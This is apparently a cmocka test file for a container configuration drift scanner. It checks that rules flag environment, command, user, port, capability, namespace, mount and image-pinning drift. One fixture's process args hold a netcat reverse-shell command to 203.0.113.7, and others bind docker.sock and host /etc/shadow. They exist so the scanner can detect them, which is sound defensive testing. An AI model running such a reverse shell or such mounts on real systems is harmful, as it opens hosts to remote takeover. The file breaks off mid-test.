/*
 * Configuration drift (lib/config.c) and approved digest lists
 * (lib/verify.c), through the public API: the image is the oci-umoci
 * fixture at ref "latest", diffed against itself so that only the runtime
 * config can raise findings. Its config: User 1000:1000, WorkingDir
 * /home/user, Env PATH + APP_MODE=production, Entrypoint /usr/bin/tool,
 * Cmd --serve --verbose, ExposedPorts 8080/tcp 53/udp.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "driftdiff.h"

#define MANIFEST_DIGEST "sha256:083610133b274846bad7bc38edd104b5f58974e9e3e77b72cd2e45d3bb7c865c"
#define CONFIG_DIGEST "sha256:e9f11655c5e9eb1872ed6bb83119e47c19857ad5c382a02549698ee19c28824c"
#define OTHER_DIGEST "sha256:1111111111111111111111111111111111111111111111111111111111111111"

struct fx {
	struct dd_ctx *ctx;
	struct dd_image *img;
	const struct dd_tree *tree;
	struct dd_diff *diff;
	struct dd_findings *fs;
	char dir[64];
	char path[128];
};

static const char *fixtures(void)
{
	const char *f = getenv("DD_FIXTURES");

	return f && *f ? f : "fixtures";
}

static int setup(void **state)
{
	struct dd_image_options o = DD_IMAGE_OPTIONS_INIT;
	struct fx *f = calloc(1, sizeof(*f));
	char path[4096];

	if (!f || dd_ctx_new(&f->ctx))
		return -1;
	snprintf(path, sizeof(path), "%s/oci-umoci", fixtures());
	o.ref = "latest";
	if (dd_image_open(&f->img, f->ctx, path, &o) || dd_image_tree(&f->tree, f->img) ||
	    dd_diff_trees(&f->diff, f->ctx, f->tree, f->tree, NULL)) {
		fprintf(stderr, "setup: %s\n", dd_ctx_error(f->ctx));
		return -1;
	}
	strcpy(f->dir, "/tmp/dd-test-config-XXXXXX");
	if (!mkdtemp(f->dir))
		return -1;
	snprintf(f->path, sizeof(f->path), "%s/config.json", f->dir);
	*state = f;
	return 0;
}

static int teardown(void **state)
{
	struct fx *f = *state;

	dd_findings_free(f->fs);
	dd_diff_free(f->diff);
	dd_image_free(f->img);
	dd_ctx_free(f->ctx);
	unlink(f->path);
	rmdir(f->dir);
	free(f);
	return 0;
}

/* ---- helpers ---- */

static void write_config(struct fx *f, const char *json)
{
	FILE *fp = fopen(f->path, "w");

	assert_non_null(fp);
	assert_int_equal(fwrite(json, 1, strlen(json), fp), strlen(json));
	assert_int_equal(fclose(fp), 0);
}

/* Classify with the runtime config at PATH (against the image unless NO_IMAGE). */
static int classify_path(struct fx *f, const char *path, bool no_image)
{
	struct dd_classify_options o = DD_CLASSIFY_OPTIONS_INIT;

	dd_findings_free(f->fs);
	f->fs = NULL;
	o.image = no_image ? NULL : f->img;
	o.runtime_config = path;
	return dd_classify(&f->fs, f->ctx, f->diff, &o);
}

/* JSON must classify cleanly. */
static void classify(struct fx *f, const char *json)
{
	int rc;

	write_config(f, json);
	rc = classify_path(f, f->path, false);
	if (rc)
		fail_msg("dd_classify: %d %s", rc, dd_ctx_error(f->ctx));
}

/* JSON must fail with CODE and a message naming the file and NEEDLE. */
static void classify_fails(struct fx *f, const char *json, int code, const char *needle)
{
	int rc;

	write_config(f, json);
	rc = classify_path(f, f->path, false);
	assert_null(f->fs);
	if (rc != code || !strstr(dd_ctx_error(f->ctx), f->path) ||
	    (needle && !strstr(dd_ctx_error(f->ctx), needle)))
		fail_msg("want %d naming %s and '%s', got %d: %s", code, f->path, needle ? needle : "",
			 rc, dd_ctx_error(f->ctx));
}

static size_t count(const struct fx *f, const char *rule)
{
	size_t i, n = 0;

	for (i = 0; i < dd_findings_count(f->fs); i++)
		if (!strcmp(dd_findings_get(f->fs, i)->rule->id, rule))
			n++;
	return n;
}

/* The only finding under RULE. */
static const struct dd_finding *one(const struct fx *f, const char *rule)
{
	size_t i;

	if (count(f, rule) != 1)
		fail_msg("%zu findings under %s, want 1", count(f, rule), rule);
	for (i = 0; i < dd_findings_count(f->fs); i++)
		if (!strcmp(dd_findings_get(f->fs, i)->rule->id, rule))
			return dd_findings_get(f->fs, i);
	return NULL;
}

static void detail_has(const struct dd_finding *fd, const char *needle)
{
	if (!fd->detail || !strstr(fd->detail, needle))
		fail_msg("%s detail lacks '%s': %s", fd->rule->id, needle, fd->detail ? fd->detail : "(none)");
}

static void detail_lacks(const struct dd_finding *fd, const char *needle)
{
	if (fd->detail && strstr(fd->detail, needle))
		fail_msg("%s detail has '%s': %s", fd->rule->id, needle, fd->detail);
}

static void print_findings(const struct fx *f)
{
	size_t i;

	for (i = 0; i < dd_findings_count(f->fs); i++) {
		const struct dd_finding *fd = dd_findings_get(f->fs, i);

		fprintf(stderr, "  %s %s %s\n", dd_severity_name(fd->severity), fd->rule->id,
			fd->detail ? fd->detail : "");
	}
}

static void no_findings(const struct fx *f)
{
	if (dd_findings_count(f->fs)) {
		print_findings(f);
		fail_msg("%zu findings, want none", dd_findings_count(f->fs));
	}
}

/*
 * An OCI config.json that matches the image and is hardened: what each
 * test starts from. OCI(x) splices X in as extra top-level members, and
 * PROCESS/ROOT/LINUX/MOUNTS can be replaced one at a time.
 */
#define PROCESS_OK \
	"\"process\": {\"user\": {\"uid\": 1000, \"gid\": 1000}," \
	" \"args\": [\"/usr/bin/tool\", \"--serve\", \"--verbose\"]," \
	" \"env\": [\"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\", \"APP_MODE=production\"]," \
	" \"cwd\": \"/home/user\", \"noNewPrivileges\": true," \
	" \"capabilities\": {\"bounding\": [\"CAP_CHOWN\", \"CAP_NET_BIND_SERVICE\"]}}"
#define ROOT_OK "\"root\": {\"path\": \"rootfs\", \"readonly\": true}"
#define LINUX_OK \
	"\"linux\": {\"namespaces\": [{\"type\": \"pid\"}, {\"type\": \"ipc\"}, {\"type\": \"uts\"}," \
	" {\"type\": \"mount\"}, {\"type\": \"network\"}]}"
#define MOUNTS_OK \
	"\"mounts\": [{\"destination\": \"/proc\", \"type\": \"proc\", \"source\": \"proc\"}," \
	" {\"destination\": \"/sys\", \"type\": \"sysfs\", \"source\": \"sysfs\", \"options\": [\"ro\"]}]"
#define OCI4(p, r, l, m) "{\"ociVersion\": \"1.1.0\", " p ", " r ", " l ", " m "}"
#define OCI_OK OCI4(PROCESS_OK, ROOT_OK, LINUX_OK, MOUNTS_OK)

/* The docker counterpart, hardened and matching the image. */
#define DCONFIG_OK \
	"\"Config\": {\"User\": \"1000:1000\", \"WorkingDir\": \"/home/user\"," \
	" \"Env\": [\"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\", \"APP_MODE=production\"]," \
	" \"Entrypoint\": [\"/usr/bin/tool\"], \"Cmd\": [\"--serve\", \"--verbose\"]," \
	" \"ExposedPorts\": {\"8080/tcp\": {}, \"53/udp\": {}}," \
	" \"Image\": \"example.com/umoci@" MANIFEST_DIGEST "\"}"
#define DHOST_OK \
	"\"HostConfig\": {\"Privileged\": false, \"CapAdd\": null, \"CapDrop\": [\"ALL\"]," \
	" \"PidMode\": \"\", \"IpcMode\": \"private\", \"NetworkMode\": \"bridge\", \"UTSMode\": \"\"," \
	" \"ReadonlyRootfs\": true, \"SecurityOpt\": [\"no-new-privileges:true\"], \"Binds\": null," \
	" \"Mounts\": null, \"PortBindings\": {}}"
#define DOCKER3(c, h, extra) "[{\"Id\": \"abc\", \"Image\": \"" CONFIG_DIGEST "\", " c ", " h extra "}]"
#define DOCKER_OK DOCKER3(DCONFIG_OK, DHOST_OK, "")

/* ---- both shapes, hardened ---- */

static void test_oci_hardened(void **state)
{
	struct fx *f = *state;

	classify(f, OCI_OK);
	no_findings(f);
}

static void test_docker_hardened(void **state)
{
	struct fx *f = *state;

	classify(f, DOCKER_OK);
	no_findings(f);
	/* The object alone, without docker inspect's array, reads the same. */
	classify(f, "{\"Image\": \"" MANIFEST_DIGEST "\", " DCONFIG_OK ", " DHOST_OK "}");
	no_findings(f);
}

static void test_fixture_files(void **state)
{
	struct fx *f = *state;
	char path[4096];
	size_t i;
	static const char *const rules[] = {
		"DD-CFG-001", "DD-CFG-002", "DD-CFG-003", "DD-CFG-004", "DD-CFG-005",
		"DD-CFG-006", "DD-CFG-007", "DD-CFG-008", "DD-CFG-009", "DD-CFG-010", "DD-CFG-011",
	};

	snprintf(path, sizeof(path), "%s/config/oci-config.json", fixtures());
	assert_int_equal(classify_path(f, path, false), 0);
	no_findings(f);
	snprintf(path, sizeof(path), "%s/config/docker-inspect.json", fixtures());
	assert_int_equal(classify_path(f, path, false), 0);
	for (i = 0; i < sizeof(rules) / sizeof(rules[0]); i++)
		if (!count(f, rules[i]))
			fail_msg("the risky fixture raises no %s", rules[i]);
}

/* ---- DD-CFG-001: environment ---- */

static void test_env(void **state)
{
	struct fx *f = *state;
	const struct dd_finding *fd;

	classify(f, OCI4("\"process\": {\"user\": {\"uid\": 1000, \"gid\": 1000},"
			 " \"args\": [\"/usr/bin/tool\", \"--serve\", \"--verbose\"], \"cwd\": \"/home/user\","
			 " \"noNewPrivileges\": true, \"env\": [\"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\","
			 " \"APP_MODE=debug\", \"DB_PASSWORD=hunter2\"]}", ROOT_OK, LINUX_OK, MOUNTS_OK));
	fd = one(f, "DD-CFG-001");
	assert_int_equal(fd->severity, DD_SEVERITY_MEDIUM);
	detail_has(fd, "added DB_PASSWORD (sha256:");
	detail_has(fd, "changed APP_MODE (sha256:");
	/* Values never appear, only hashes. */
	detail_lacks(fd, "hunter2");
	detail_lacks(fd, "debug");
	detail_lacks(fd, "production");
	assert_int_equal(dd_findings_count(f->fs), 1);

	/* A variable of the image removed. */
	classify(f, OCI4("\"process\": {\"user\": {\"uid\": 1000, \"gid\": 1000},"
			 " \"args\": [\"/usr/bin/tool\", \"--serve\", \"--verbose\"], \"cwd\": \"/home/user\","
			 " \"noNewPrivileges\": true, \"env\": [\"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"]}",
			 ROOT_OK, LINUX_OK, MOUNTS_OK));
	detail_has(one(f, "DD-CFG-001"), "removed APP_MODE");

	/* The last of repeated names counts, as for execve's users. */
	classify(f, OCI4("\"process\": {\"user\": {\"uid\": 1000, \"gid\": 1000},"
			 " \"args\": [\"/usr/bin/tool\", \"--serve\", \"--verbose\"], \"cwd\": \"/home/user\","
			 " \"noNewPrivileges\": true, \"env\": [\"APP_MODE=debug\", \"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\","
			 " \"APP_MODE=production\"]}", ROOT_OK, LINUX_OK, MOUNTS_OK));
	no_findings(f);
}

static void test_env_runtime_vars_ignored(void **state)
{
	struct fx *f = *state;

	classify(f, OCI4("\"process\": {\"user\": {\"uid\": 1000, \"gid\": 1000},"
			 " \"args\": [\"/usr/bin/tool\", \"--serve\", \"--verbose\"], \"cwd\": \"/home/user\","
			 " \"noNewPrivileges\": true, \"env\": [\"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\","
			 " \"APP_MODE=production\", \"HOSTNAME=pod-1\", \"HOME=/home/user\", \"TERM=xterm\", \"container=podman\","
			 " \"KUBERNETES_SERVICE_HOST=10.96.0.1\", \"KUBERNETES_SERVICE_PORT=443\","
			 " \"KUBERNETES_PORT=tcp://10.96.0.1:443\", \"KUBERNETES_PORT_443_TCP_ADDR=10.96.0.1\","
			 " \"REDIS_SERVICE_HOST=10.0.0.11\", \"REDIS_SERVICE_PORT=6379\", \"REDIS_SERVICE_PORT_CLIENT=6379\","
			 " \"REDIS_PORT=tcp://10.0.0.11:6379\", \"REDIS_PORT_6379_TCP=tcp://10.0.0.11:6379\","
			 " \"REDIS_PORT_6379_TCP_PROTO=tcp\", \"REDIS_PORT_6379_TCP_PORT=6379\"]}",
			 ROOT_OK, LINUX_OK, MOUNTS_OK));
	no_findings(f);

	/* A *_PORT that is not a service link is drift. */
	classify(f, OCI4("\"process\": {\"user\": {\"uid\": 1000, \"gid\": 1000},"
			 " \"args\": [\"/usr/bin/tool\", \"--serve\", \"--verbose\"], \"cwd\": \"/home/user\","
			 " \"noNewPrivileges\": true, \"env\": [\"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\","
			 " \"APP_MODE=production\", \"DB_PORT=5432\"]}", ROOT_OK, LINUX_OK, MOUNTS_OK));
	detail_has(one(f, "DD-CFG-001"), "added DB_PORT");

	/* A PATH other than the runtime default is drift. */
	classify(f, OCI4("\"process\": {\"user\": {\"uid\": 1000, \"gid\": 1000},"
			 " \"args\": [\"/usr/bin/tool\", \"--serve\", \"--verbose\"], \"cwd\": \"/home/user\","
			 " \"noNewPrivileges\": true, \"env\": [\"PATH=/tmp/evil:/usr/bin\", \"APP_MODE=production\"]}",
			 ROOT_OK, LINUX_OK, MOUNTS_OK));
	detail_has(one(f, "DD-CFG-001"), "changed PATH");
}

/* ---- DD-CFG-002: entrypoint and command ---- */

static void test_command(void **state)
{
	struct fx *f = *state;
	const struct dd_finding *fd;

	classify(f, OCI4("\"process\": {\"user\": {\"uid\": 1000, \"gid\": 1000},"
			 " \"args\": [\"/bin/sh\", \"-c\", \"nc -e /bin/sh 203.0.113.7 4444\"], \"cwd\": \"/home/user\","
			 " \"noNewPrivileges\": true, \"env\": [\"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\","
			 " \"APP_MODE=production\"]}", ROOT_OK, LINUX_OK, MOUNTS_OK));
	fd = one(f, "DD-CFG-002");
	assert_int_equal(fd->severity, DD_SEVERITY_HIGH);
	detail_has(fd, "runs /bin/sh -c 'nc -e /bin/sh 203.0.113.7 4444'");
	detail_has(fd, "the image runs /usr/bin/tool --serve --verbose");
	assert_int_equal(dd_findings_count(f->fs), 1);

	/* Docker: the same argv split differently between Entrypoint and Cmd is no drift. */
	classify(f, DOCKER3("\"Config\": {\"User\": \"1000:1000\", \"WorkingDir\": \"/home/user\","
			    " \"Env\": [\"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\", \"APP_MODE=production\"],"
			    " \"Entrypoint\": [\"/usr/bin/tool\", \"--serve\"], \"Cmd\": [\"--verbose\"],"
			    " \"ExposedPorts\": {\"8080/tcp\": {}, \"53/udp\": {}}}", DHOST_OK, ""));
	no_findings(f);
	/* ... a different Cmd is. */
	classify(f, DOCKER3("\"Config\": {\"User\": \"1000:1000\", \"WorkingDir\": \"/home/user\","
			    " \"Env\": [\"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\", \"APP_MODE=production\"],"
			    " \"Entrypoint\": [\"/usr/bin/tool\"], \"Cmd\": null,"
			    " \"ExposedPorts\": {\"8080/tcp\": {}, \"53/udp\": {}}}", DHOST_OK, ""));
	detail_has(one(f, "DD-CFG-002"), "runs /usr/bin/tool; the image runs");
}

/* ---- DD-CFG-003: user and working directory ---- */

static void test_user(void **state)
{
	struct fx *f = *state;
	const struct dd_finding *fd;

	classify(f, OCI4("\"process\": {\"user\": {\"uid\": 0, \"gid\": 0},"
			 " \"args\": [\"/usr/bin/tool\", \"--serve\", \"--verbose\"], \"cwd\": \"/\","
			 " \"noNewPrivileges\": true, \"env\": [\"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\","
			 " \"APP_MODE=production\"]}", ROOT_OK, LINUX_OK, MOUNTS_OK));
	fd = one(f, "DD-CFG-003");
	assert_int_equal(fd->severity, DD_SEVERITY_HIGH);
	detail_has(fd, "runs as root (user 0:0) while the image sets USER 1000:1000");
	detail_has(fd, "working directory /, the image's /home/user");

	/* Another non-root user: drift at the rule's own severity. */
	classify(f, OCI4("\"process\": {\"user\": {\"uid\": 1000, \"gid\": 0},"
			 " \"args\": [\"/usr/bin/tool\", \"--serve\", \"--verbose\"], \"cwd\": \"/home/user\","
			 " \"noNewPrivileges\": true, \"env\": [\"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\","
			 " \"APP_MODE=production\"]}", ROOT_OK, LINUX_OK, MOUNTS_OK));
	fd = one(f, "DD-CFG-003");
	assert_int_equal(fd->severity, DD_SEVERITY_MEDIUM);
	detail_has(fd, "user 1000:0, the image's 1000:1000");

	/* Docker: "root" and "" spell the same user as "0". */
	classify(f, DOCKER3("\"Config\": {\"User\": \"root\", \"WorkingDir\": \"/home/user\","
			    " \"Env\": [\"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\", \"APP_MODE=production\"],"
			    " \"Entrypoint\": [\"/usr/bin/tool\"], \"Cmd\": [\"--serve\", \"--verbose\"],"
			    " \"ExposedPorts\": {\"8080/tcp\": {}, \"53/udp\": {}}}", DHOST_OK, ""));
	detail_has(one(f, "DD-CFG-003"), "runs as root (user root) while the image sets USER 1000:1000");
}

/* ---- DD-CFG-004: ports ---- */

static void test_ports(void **state)
{
	struct fx *f = *state;
	const struct dd_finding *fd;

	classify(f, DOCKER3("\"Config\": {\"User\": \"1000:1000\", \"WorkingDir\": \"/home/user\","
			    " \"Env\": [\"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\", \"APP_MODE=production\"],"
			    " \"Entrypoint\": [\"/usr/bin/tool\"], \"Cmd\": [\"--serve\", \"--verbose\"],"
			    " \"ExposedPorts\": {\"8080/TCP\": {}, \"53/udp\": {}, \"22\": {}}}",
			    "\"HostConfig\": {\"ReadonlyRootfs\": true, \"SecurityOpt\": [\"no-new-privileges\"],"
			    " \"PortBindings\": {\"8080/tcp\": [{\"HostPort\": \"80\"}], \"4444/tcp\": [{\"HostPort\": \"4444\"}]}}", ""));
	fd = one(f, "DD-CFG-004");
	assert_int_equal(fd->severity, DD_SEVERITY_LOW);
	detail_has(fd, "added 22/tcp, 4444/tcp (published)");
	detail_lacks(fd, "8080");
	detail_lacks(fd, "removed");
	assert_int_equal(dd_findings_count(f->fs), 1);
}

/* ---- DD-CFG-005..007 ---- */

static void test_privileged_caps_namespaces(void **state)
{
	struct fx *f = *state;
	const struct dd_finding *fd;

	classify(f, DOCKER3(DCONFIG_OK,
			    "\"HostConfig\": {\"Privileged\": true, \"CapAdd\": [\"NET_ADMIN\", \"cap_chown\"],"
			    " \"PidMode\": \"host\", \"UTSMode\": \"host\", \"NetworkMode\": \"container:abc\","
			    " \"ReadonlyRootfs\": true, \"SecurityOpt\": [\"no-new-privileges=true\"]}", ""));
	assert_int_equal(one(f, "DD-CFG-005")->severity, DD_SEVERITY_CRITICAL);
	fd = one(f, "DD-CFG-006");
	assert_int_equal(fd->severity, DD_SEVERITY_HIGH);
	detail_has(fd, "NET_ADMIN");
	detail_lacks(fd, "chown");
	fd = one(f, "DD-CFG-007");
	detail_has(fd, "pid and uts");
	detail_lacks(fd, "network");
	assert_int_equal(dd_findings_count(f->fs), 3);

	/* ALL and the escape capabilities are critical, however they are spelled. */
	classify(f, DOCKER3(DCONFIG_OK, "\"HostConfig\": {\"CapAdd\": [\"ALL\"], \"ReadonlyRootfs\": true,"
			    " \"SecurityOpt\": [\"no-new-privileges\"]}", ""));
	assert_int_equal(one(f, "DD-CFG-006")->severity, DD_SEVERITY_CRITICAL);
	classify(f, DOCKER3(DCONFIG_OK, "\"HostConfig\": {\"CapAdd\": [\"CAP_SYS_PTRACE\"], \"ReadonlyRootfs\": true,"
			    " \"SecurityOpt\": [\"no-new-privileges\"]}", ""));
	assert_int_equal(one(f, "DD-CFG-006")->severity, DD_SEVERITY_CRITICAL);

	/* OCI: the bounding set counts; pid missing and network at /proc/1/ns are the host's. */
	classify(f, OCI4("\"process\": {\"user\": {\"uid\": 1000, \"gid\": 1000},"
			 " \"args\": [\"/usr/bin/tool\", \"--serve\", \"--verbose\"], \"cwd\": \"/home/user\","
			 " \"noNewPrivileges\": true, \"env\": [\"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\","
			 " \"APP_MODE=production\"], \"capabilities\": {\"bounding\": [\"CAP_CHOWN\", \"CAP_BPF\"],"
			 " \"effective\": [\"CAP_CHOWN\"]}}", ROOT_OK,
			 "\"linux\": {\"namespaces\": [{\"type\": \"ipc\"}, {\"type\": \"uts\", \"path\": \"/proc/4242/ns/uts\"},"
			 " {\"type\": \"network\", \"path\": \"/proc/1/ns/net\"}]}", MOUNTS_OK));
	fd = one(f, "DD-CFG-006");
	assert_int_equal(fd->severity, DD_SEVERITY_CRITICAL);
	detail_has(fd, "process.capabilities.bounding CAP_BPF");
	detail_has(one(f, "DD-CFG-007"), "shares the host's pid and network namespaces");
	assert_int_equal(dd_findings_count(f->fs), 2);

	/* No linux.namespaces at all: every namespace is the host's. */
	classify(f, "{\"ociVersion\": \"1.1.0\", " PROCESS_OK ", " ROOT_OK ", " MOUNTS_OK "}");
	detail_has(one(f, "DD-CFG-007"), "pid, ipc, network and uts namespaces");
}

/* ---- DD-CFG-008: mounts ---- */

static const struct dd_finding *mount_finding(const struct fx *f, const char *dest)
{
	size_t i;

	for (i = 0; i < dd_findings_count(f->fs); i++) {
		const struct dd_finding *fd = dd_findings_get(f->fs, i);

		if (!strcmp(fd->rule->id, "DD-CFG-008") && fd->npaths == 1 &&
		    fd->paths[0].len == strlen(dest) && !memcmp(fd->paths[0].path, dest, fd->paths[0].len))
			return fd;
	}
	fail_msg("no DD-CFG-008 at %s", dest);
	return NULL;
}

static void test_mounts(void **state)
{
	struct fx *f = *state;
	const struct dd_finding *fd;

	classify(f, OCI4(PROCESS_OK, ROOT_OK, LINUX_OK,
			 "\"mounts\": ["
			 "{\"destination\": \"/proc\", \"type\": \"proc\", \"source\": \"proc\"},"
			 "{\"destination\": \"/run/containerd/containerd.sock\", \"type\": \"bind\","
			 " \"source\": \"/run/containerd/containerd.sock\", \"options\": [\"rbind\", \"ro\"]},"
			 "{\"destination\": \"/host/etc\", \"type\": \"none\", \"source\": \"/etc/\", \"options\": [\"rbind\", \"rw\"]},"
			 "{\"destination\": \"/host/shadow\", \"source\": \"//etc//shadow\", \"options\": [\"bind\", \"ro\"]},"
			 "{\"destination\": \"/host/var\", \"type\": \"bind\", \"source\": \"/var\", \"options\": [\"ro\"]},"
			 "{\"destination\": \"/sneaky\", \"type\": \"bind\", \"source\": \"/srv/../etc\"},"
			 /* what the runtimes and the kubelet mount into every container */
			 "{\"destination\": \"/etc/hosts\", \"type\": \"bind\", \"source\": \"/var/lib/kubelet/pods/x/etc-hosts\"},"
			 "{\"destination\": \"/etc/resolv.conf\", \"type\": \"bind\", \"source\": \"/var/lib/docker/containers/x/resolv.conf\"},"
			 "{\"destination\": \"/dev/shm\", \"type\": \"bind\", \"source\": \"/run/containerd/io.containerd.grpc.v1.cri/sandboxes/x/shm\"},"
			 "{\"destination\": \"/etc/localtime\", \"type\": \"bind\", \"source\": \"/etc/localtime\", \"options\": [\"ro\"]},"
			 "{\"destination\": \"/data\", \"type\": \"bind\", \"source\": \"/srv/data\"},"
			 "{\"destination\": \"/host/etc2\", \"type\": \"tmpfs\", \"source\": \"/etc\"}]"));
	assert_int_equal(count(f, "DD-CFG-008"), 5);
	assert_int_equal(dd_findings_count(f->fs), 5);
	/* A read-only socket still takes connect(2). */
	fd = mount_finding(f, "/run/containerd/containerd.sock");
	assert_int_equal(fd->severity, DD_SEVERITY_CRITICAL);
	detail_has(fd, "read-only");
	fd = mount_finding(f, "/host/etc");
	assert_int_equal(fd->severity, DD_SEVERITY_CRITICAL);
	detail_has(fd, "host /etc/ mounted read-write at /host/etc");
	assert_int_equal(mount_finding(f, "/host/shadow")->severity, DD_SEVERITY_HIGH);
	/* /var holds /var/lib/docker and /var/run. */
	assert_int_equal(mount_finding(f, "/host/var")->severity, DD_SEVERITY_HIGH);
	detail_has(mount_finding(f, "/sneaky"), "..");

	/* Docker: Mounts, Binds and HostConfig.Mounts, one finding per destination. */
	classify(f, DOCKER3(DCONFIG_OK,
			    "\"HostConfig\": {\"ReadonlyRootfs\": true, \"SecurityOpt\": [\"no-new-privileges\"],"
			    " \"Binds\": [\"/var/run/docker.sock:/var/run/docker.sock\", \"/root:/r:ro,Z\", \"vol:/v\"],"
			    " \"Mounts\": [{\"Type\": \"bind\", \"Source\": \"/\", \"Target\": \"/host\", \"ReadOnly\": true},"
			    " {\"Type\": \"volume\", \"Source\": \"x\", \"Target\": \"/x\"}]}",
			    ", \"Mounts\": [{\"Type\": \"bind\", \"Source\": \"/var/run/docker.sock\","
			    " \"Destination\": \"/var/run/docker.sock\", \"RW\": true},"
			    " {\"Type\": \"volume\", \"Source\": \"/var/lib/docker/volumes/vol/_data\", \"Destination\": \"/v\", \"RW\": true}]"));
	assert_int_equal(count(f, "DD-CFG-008"), 3);
	assert_int_equal(mount_finding(f, "/var/run/docker.sock")->severity, DD_SEVERITY_CRITICAL);
	assert_int_equal(mount_finding(f, "/r")->severity, DD_SEVERITY_HIGH);
	fd = mount_finding(f, "/host");
	assert_int_equal(fd->severity, DD_SEVERITY_HIGH);
	detail_has(fd, "the host's root filesystem");
}

/* ---- DD-CFG-009 ---- */

static void test_rootfs_nnp(void **state)
{
	struct fx *f = *state;
	const struct dd_finding *fd;

	classify(f, OCI4(PROCESS_OK, "\"root\": {\"path\": \"rootfs\"}", LINUX_OK, MOUNTS_OK));
	fd = one(f, "DD-CFG-009");
	assert_string_equal(fd->detail, "writable root filesystem");
	assert_int_equal(dd_findings_count(f->fs), 1);

	classify(f, DOCKER3(DCONFIG_OK, "\"HostConfig\": {\"ReadonlyRootfs\": true,"
			    " \"SecurityOpt\": [\"no-new-privileges:false\"]}", ""));
	assert_string_equal(one(f, "DD-CFG-009")->detail, "no-new-privileges not set");

	classify(f, DOCKER3(DCONFIG_OK, "\"HostConfig\": {}", ""));
	assert_string_equal(one(f, "DD-CFG-009")->detail,
			    "writable root filesystem; no-new-privileges not set");
}

/* ---- DD-CFG-010, DD-CFG-011 ---- */

static void test_image_ref(void **state)
{
	struct fx *f = *state;
	const struct dd_finding *fd;

	classify(f, DOCKER3("\"Config\": {\"Image\": \"example.com/umoci:latest\"}", DHOST_OK, ""));
	fd = one(f, "DD-CFG-010");
	assert_int_equal(fd->severity, DD_SEVERITY_LOW);
	detail_has(fd, "example.com/umoci:latest");

	/* Run by image ID: pinned. */
	classify(f, DOCKER3("\"Config\": {\"Image\": \"" CONFIG_DIGEST "\"}", DHOST_OK, ""));
	assert_int_equal(count(f, "DD-CFG-010"), 0);

	/* Another image than the one given: high. */
	classify(f, "[{\"Image\": \"" OTHER_DIGEST "\", " DCONFIG_OK ", " DHOST_OK "}]");
	fd = one(f, "DD-CFG-011");
	assert_int_equal(fd->severity, DD_SEVERITY_HIGH);
	detail_has(fd, "the container runs image " OTHER_DIGEST ", not the image given");

	/* The containerd image store records the manifest digest instead: the same image. */
	classify(f, "[{\"Image\": \"" MANIFEST_DIGEST "\", " DCONFIG_OK ", " DHOST_OK "}]");
	no_findings(f);

	/* OCI: the CRI annotation names the image. */
	classify(f, "{\"ociVersion\": \"1.1.0\", " PROCESS_OK ", " ROOT_OK ", " LINUX_OK ", " MOUNTS_OK ","
		    " \"annotations\": {\"io.kubernetes.cri.image-name\": \"docker.io/library/nginx:1.25\"}}");
	detail_has(one(f, "DD-CFG-010"), "docker.io/library/nginx:1.25");
	classify(f, "{\"ociVersion\": \"1.1.0\", " PROCESS_OK ", " ROOT_OK ", " LINUX_OK ", " MOUNTS_OK ","
		    " \"annotations\": {\"org.opencontainers.image.ref.name\": \"nginx@" MANIFEST_DIGEST "\"}}");
	no_findings(f);
}

/* Without the image only the settings are judged. */
static void test_no_image(void **state)
{
	struct fx *f = *state;

	write_config(f, DOCKER3("\"Config\": {\"User\": \"0\", \"Env\": [\"X=1\"], \"Image\": \"a:b\"}",
				"\"HostConfig\": {\"Privileged\": true}", ""));
	assert_int_equal(classify_path(f, f->path, true), 0);
	assert_int_equal(count(f, "DD-CFG-001"), 0);
	assert_int_equal(count(f, "DD-CFG-003"), 0);
	assert_int_equal(count(f, "DD-CFG-005"), 1);
	assert_int_equal(count(f, "DD-CFG-009"), 1);
	assert_int_equal(count(f, "DD-CFG-010"), 1);
}

/* ---- hostile and malformed configs ---- */

static void test_malformed(void **state)
{
	struct fx *f = *state;

	classify_fails(f, "{\"ociVersion\": \"1.1.0\", \"process\": {\"env\": [", DD_EFORMAT, "truncated");
	classify_fails(f, "", DD_EFORMAT, NULL);
	classify_fails(f, "{\"a\": NaN}", DD_EFORMAT, NULL);
	classify_fails(f, OCI_OK " {}", DD_EFORMAT, "malformed JSON");
	classify_fails(f, "[]", DD_EFORMAT, "array of 0");
	classify_fails(f, "[" OCI_OK ", " OCI_OK "]", DD_EFORMAT, "array of 2");
	classify_fails(f, "\"just a string\"", DD_EFORMAT, "neither");
	classify_fails(f, "{\"Id\": \"abc\"}", DD_EFORMAT, "neither");
	/* wrong types */
	classify_fails(f, "[{\"Config\": {\"Env\": \"A=1\"}}]", DD_EFORMAT, "Config.Env is not an array");
	classify_fails(f, "[{\"Config\": {\"Env\": [\"A=1\", 2]}}]", DD_EFORMAT, "Config.Env[1] is not a string");
	classify_fails(f, "[{\"Config\": {\"User\": 0}}]", DD_EFORMAT, "Config.User is not a string");
	classify_fails(f, "[{\"Config\": {\"User\": \"a\\u0000b\"}}]", DD_EFORMAT, "NUL");
	classify_fails(f, "[{\"Config\": [], \"HostConfig\": {}}]", DD_EFORMAT, "Config is not an object");
	classify_fails(f, "[{\"HostConfig\": {\"Privileged\": \"yes\"}}]", DD_EFORMAT,
